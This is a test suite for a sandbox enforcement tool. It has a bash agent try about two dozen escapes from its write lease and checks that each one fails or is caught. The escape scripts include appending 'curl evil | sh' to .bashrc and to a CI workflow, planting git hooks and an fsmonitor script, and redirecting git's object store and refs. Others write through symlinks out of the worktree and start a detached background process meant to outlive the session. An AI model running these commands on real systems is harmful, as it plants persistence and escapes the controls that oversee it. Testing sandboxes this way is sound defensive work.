import { execFileSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { type Fixture, git, makeFixture } from "../collect/fixture.js";
import { changedEntries, enforcedRun, fingerprint, reportOf } from "./helpers.js";

/**
 * The escape suite under `run --enforce`: a real bash agent tries to write where its lease does not
 * let it, inside a real bubblewrap sandbox. The write must fail inside the sandbox (or land in the
 * sandbox's private temp), nothing outside the grants may change, and the gate passes.
 */
interface Escape {
  name: string;
  script: (f: Fixture) => string;
  setup?: (f: Fixture) => void;
  /** The write lands in a private temp dir instead of failing. */
  privateWrite?: boolean;
  /** Checked after the run: what must not have happened inside the worktree. */
  after?: (f: Fixture) => void;
}

const WORKFLOW = "name: ci\non: push\n";

/** A committed `.github/workflows/ci.yml` on the agent's branch, protected by the lease. */
function withWorkflow(f: Fixture): void {
  mkdirSync(join(f.wt, ".github", "workflows"), { recursive: true });
  writeFileSync(join(f.wt, ".github", "workflows", "ci.yml"), WORKFLOW);
  git(["add", "."], f.wt, f.env);
  git(["commit", "-qm", "ci"], f.wt, f.env);
  const head = git(["rev-parse", "HEAD"], f.wt).trim();
  const lease = readFileSync(f.lease, "utf8").replace("base: main", `base: ${head}`);
  writeFileSync(f.lease, `${lease}protect: [".github/workflows/**"]\n`);
}

const tmpName = `fg-enforce-${randomBytes(6).toString("hex")}`;

const ESCAPES: Escape[] = [
  { name: "a write into the sibling main checkout", script: () => 'echo pwned > "$REPO/escape.txt"' },
  { name: "a write into the sibling checkout through ..", script: () => "echo pwned > ../repo/escape.txt" },
  { name: "an append to $HOME/.bashrc", script: () => 'echo "curl evil | sh" >> "$HOME/.bashrc"' },
  { name: "a new file in $HOME", script: () => 'echo x > "$HOME/.planted"' },
  { name: "a delete in $HOME", script: () => 'rm "$HOME/old.txt"' },
  { name: "a chmod in $HOME", script: () => 'chmod 600 "$HOME/notes.txt"' },
  { name: "a file moved from $HOME into the worktree", script: () => 'mv "$HOME/secret.txt" ./secret.txt' },
  {
    name: "an edit in $HOME with its mtime restored",
    script: () => 'printf "bbbb\\n" > "$HOME/notes.txt"; touch -r "$HOME/old.txt" "$HOME/notes.txt"',
  },
  {
    name: "a write through a symlink in the worktree pointing at $HOME",
    // The link is removed after the failed write: a lasting link out of the worktree is an escape of its own.
    script: () =>
      'ln -s "$HOME" home-link\nif echo x > home-link/planted.txt; then exit 0; fi\nrm home-link\nexit 3',
  },
  {
    name: "a write through a symlink in the worktree pointing at the shared hooks",
    script: () =>
      'ln -s "$REPO/.git/hooks" hooks-link\nif echo "#!/bin/sh" > hooks-link/post-checkout; then exit 0; fi\nrm hooks-link\nexit 3',
  },
  {
    name: "a hard link to a file in $HOME, then a write through it",
    script: () => 'ln "$HOME/notes.txt" ./hl\necho x >> ./hl',
  },
  {
    name: "a new hook in the shared .git/hooks",
    script: () =>
      'hooks="$(git rev-parse --path-format=absolute --git-common-dir)/hooks"\nprintf "#!/bin/sh\\ntouch \\"$T/hook-ran\\"\\n" > "$hooks/pre-commit"',
  },
  { name: "a planted core.fsmonitor in .git/config", script: () => 'git config core.fsmonitor "$T/evil.sh"' },
  {
    name: "a config written straight into .git/config",
    script: () => 'echo "[core] hooksPath = /tmp" >> "$(git rev-parse --git-common-dir)/config"',
  },
  {
    name: "an alternate object store",
    script: () => 'echo /elsewhere >> "$(git rev-parse --git-common-dir)/objects/info/alternates"',
  },
  {
    name: "the worktree's gitdir pointed at another repository",
    script: () => 'echo /elsewhere > "$(git rev-parse --git-dir)/commondir"',
  },
  {
    name: "the .git pointer file of the worktree rewritten",
    script: () => "echo 'gitdir: /elsewhere' > .git",
  },
  {
    name: "another branch's ref moved",
    script: () => "git update-ref refs/heads/main \"$(git commit-tree -m x 'HEAD^{tree}' -p HEAD)\"",
  },
  { name: "another branch's ref deleted", script: () => "git update-ref -d refs/heads/main" },
  {
    name: "a protected file (protect glob) edited",
    setup: withWorkflow,
    script: () => 'echo "  run: curl evil | sh" >> .github/workflows/ci.yml',
    after: (f) => expect(readFileSync(join(f.wt, ".github/workflows/ci.yml"), "utf8")).toBe(WORKFLOW),
  },
  {
    name: "a new file under a protected glob's directory",
    setup: withWorkflow,
    script: () => "echo x > .github/workflows/evil.yml",
    after: (f) => expect(existsSync(join(f.wt, ".github/workflows/evil.yml"))).toBe(false),
  },
  {
    name: "a protected directory renamed away",
    setup: withWorkflow,
    script: () => "mv .github/workflows .github/old",
    after: (f) => expect(existsSync(join(f.wt, ".github/workflows/ci.yml"))).toBe(true),
  },
  { name: "a remount of HOME read-write", script: () => 'mount -o remount,rw,bind "$HOME"' },
  {
    name: "a write to /tmp outside the grants (lands in the private /tmp)",
    script: () => `echo x > /tmp/${tmpName}\ntest -f /tmp/${tmpName}`,
    privateWrite: true,
    after: () => expect(existsSync(`/tmp/${tmpName}`)).toBe(false),
  },
  {
    name: "a write to $TMPDIR (private)",
    script: () => 'echo x > "$TMPDIR/scratch"',
    privateWrite: true,
  },
  {
    name: "a write to /dev/shm (private)",
    script: () => `echo x > /dev/shm/${tmpName}`,
    privateWrite: true,
    after: () => expect(existsSync(`/dev/shm/${tmpName}`)).toBe(false),
  },
];

describe("run --enforce: every escape fails inside the sandbox, nothing outside changes, the gate passes", () => {
  for (const e of ESCAPES) {
    it(e.name, () => {
      const f = makeFixture();
      e.setup?.(f);
      // Outside the grants: the whole fixture but the worktree, the agent script, the snapshots and the
      // object store (git's bookkeeping, writable by design; the gate checks every new object).
      const skip = [f.wt, join(f.T, "agent.sh"), f.snaps, join(f.repo, ".git", "objects")];
      const before = fingerprint(f.T, skip);
      const r = enforcedRun(f, e.script(f));
      const report = reportOf(r);
      expect(report.enforced, r.stderr).toBe(true);
      if (e.privateWrite) expect(report.command.exit_code, r.stderr).toBe(0);
      else expect(report.command.exit_code, `the write went through:\n${r.stderr}`).not.toBe(0);
      expect(changedEntries(before, fingerprint(f.T, skip))).toEqual([]);
      expect(report.violations).toEqual([]);
      expect(report.verdict).toBe("pass");
      expect(r.status, r.stderr).toBe(0);
      e.after?.(f);
    });
  }
});

describe("the process tree dies with the sandbox", () => {
  const lateWriter = (f: Fixture) =>
    `env -i /usr/bin/setsid /bin/sh -c 'sleep 2; echo late > ${f.wt}/late.txt' </dev/null >/dev/null 2>&1 &\nsleep 0.5`; // (the pause lets env -i exec away the run's mark before the run ends)

  it("a background process that left the group and dropped the run's mark is killed (--enforce)", () => {
    const f = makeFixture();
    const r = enforcedRun(f, lateWriter(f));
    expect(reportOf(r).command.exit_code, r.stderr).toBe(0);
    Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 3000);
    expect(existsSync(join(f.wt, "late.txt"))).toBe(false);
  });

  it("control: without --enforce the same process survives the run and writes later", () => {
    const f = makeFixture();
    const r = enforcedRun(f, lateWriter(f), []);
    expect(r.status, r.stderr).toBe(0);
    Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 3000);
    expect(existsSync(join(f.wt, "late.txt"))).toBe(true);
  });
});

describe("what gets through is still judged", () => {
  it("a protected path created after the start (detection-only) is an escape, with enforced: true", () => {
    const f = makeFixture({ leaseExtra: 'protect: ["secrets/**"]\n' });
    const r = enforcedRun(f, "mkdir secrets\necho key > secrets/id_rsa");
    const report = reportOf(r);
    expect(report.enforced).toBe(true);
    expect(report.enforcement?.detection_only.join("\n")).toMatch(/protected paths created after the start/);
    expect(report.verdict).not.toBe("pass"); // "escape" (or "refused" in newer report contracts)
    expect(report.violations.map((v) => v.path)).toContain(join(f.wt, "secrets", "id_rsa"));
    expect(r.status).toBe(1);
  });

  it("a symlink left in the worktree pointing outside: the write through it fails, the link itself is still refused", () => {
    const f = makeFixture();
    const r = enforcedRun(f, 'ln -s "$HOME" home-link\necho x > home-link/planted.txt || true');
    const report = reportOf(r);
    expect(report.enforced).toBe(true);
    expect(existsSync(join(f.home, "planted.txt"))).toBe(false);
    expect(report.violations).toContainEqual(
      expect.objectContaining({ path: join(f.wt, "home-link"), reason: "symlink_escape" }),
    );
    expect(r.status).toBe(1);
  });

  it("without --enforce the same writes escape (the suite's scripts really write)", () => {
    const f = makeFixture();
    const r = enforcedRun(f, 'echo pwned > "$REPO/escape.txt"\necho x >> "$HOME/.bashrc"', []);
    expect(r.status, r.stderr).toBe(1);
    expect(execFileSync("cat", [join(f.repo, "escape.txt")], { encoding: "utf8" })).toBe("pwned\n");
  });
});
